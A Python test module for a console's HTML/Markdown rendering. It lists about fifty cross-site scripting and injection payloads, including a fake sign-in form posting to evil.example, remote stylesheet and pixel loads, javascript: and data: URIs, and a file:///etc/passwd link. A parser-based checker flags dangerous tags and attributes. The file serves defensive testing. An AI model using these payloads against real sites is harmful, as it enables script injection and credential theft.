"""What has broken other consoles: texts that try to run or load something, and a look for whether they could."""

from html.parser import HTMLParser

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form action='https://evil.example'><input name=password><button>Sign in</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css'; *{background:url(https://evil.example/)}</style>",
    "<object data='https://evil.example'></object><embed src='https://evil.example'>",
    "<video src='https://evil.example/x.mp4' autoplay onplay=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<div style='position:fixed;inset:0;background:red'>covered</div>",
    "<template><script>alert(1)</script></template>",
    "[x](javascript:alert(1))",
    "[x](  JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/x)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![x" onerror="alert(1)](data:image/png;base64,AAAA)',
    '![x](data:image/png;base64,AAAA" onerror="alert(1))',
    '[x](https://a.example/" onmouseover="alert(1))',
    '[x](https://a.example "title" onclick="alert(1)")',
    "```<script>alert(1)</script>\ncode\n```",
    '```"><img src=x onerror=alert(1)>\ncode\n```',
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "# <img src=x onerror=alert(1)>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "]]><script>alert(1)</script>",
    "</div></details></section><script>alert(1)</script>",
    "<ScRiPt\x0c>alert(1)</sCrIpT>",
    "<img/src='x'/onerror=alert(1)>",
    "\u202e<script>alert(1)</script>",
    "<x id=transcript data-transcript data-socket='//evil.example'>",
    "<button data-retry='run_x' data-decide='approve'>click me</button>",
]

FORBIDDEN_TAGS = {
    *("script", "iframe", "object", "embed", "form", "input", "meta", "base", "link", "style", "svg", "math", "video"),
    *("audio", "template", "noscript", "details", "x"),
}


class _Looker(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.dangers: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN_TAGS:
            self.dangers.append(f"<{tag}>")
        for name, value in attrs:
            address = (value or "").strip().lower()
            if name.startswith("on") or name in ("style", "id", "srcdoc", "formaction"):
                self.dangers.append(f"{tag} {name}={value}")
            if name == "src" and not address.startswith("data:image/"):
                self.dangers.append(f"{tag} src={value}")
            if name == "href" and not address.startswith(("https:", "http:", "mailto:", "/", "#")):
                self.dangers.append(f"{tag} href={value}")
            if name == "href" and address.startswith("//"):
                self.dangers.append(f"{tag} href={value}")
            if name.startswith("data-") and (name, value) != ("data-copy", "code"):
                self.dangers.append(f"{tag} {name}={value}")


def find_dangers(html: str) -> list[str]:
    looker = _Looker()
    looker.feed(html)
    looker.close()
    return looker.dangers
